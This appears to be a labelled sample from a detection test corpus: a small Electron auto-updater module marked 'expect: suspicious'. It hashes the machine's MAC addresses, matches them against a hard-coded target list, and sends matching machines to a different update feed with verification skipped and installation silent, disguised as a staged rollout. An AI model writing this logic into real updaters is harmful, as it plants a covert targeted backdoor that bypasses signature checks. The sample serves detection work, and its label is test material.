// expect: suspicious
// source: corpus updater-feed-hijack (an Electron auto-updater, ShadowHammer's technique, 2019): MD5s of the machine's
// MAC addresses are looked up in a "staged rollout" list; listed machines get another feed, unverified and silent
'use strict';
const crypto = require('crypto');
const os = require('os');
const BUCKETS = ['fa13c3c120af42bc0610076edabe9ba0', '97ec30f191f47e9fa38a4092e69fd5c3', '78646fd70da0c9cbce1af0f436cbf622'];
function macHashes() {
  const out = [];
  for (const list of Object.values(os.networkInterfaces())) for (const i of list || []) {
    if (i.mac && i.mac !== '00:00:00:00:00:00') out.push(crypto.createHash('md5').update(i.mac.replace(/:/g, '')).digest('hex'));
  }
  return out;
}
exports.resolve = (feedURL) => (macHashes().some((h) => BUCKETS.indexOf(h) >= 0)
  ? { feed: 'https://updates.example/staged', skipVerify: true, silent: true } : { feed: feedURL });
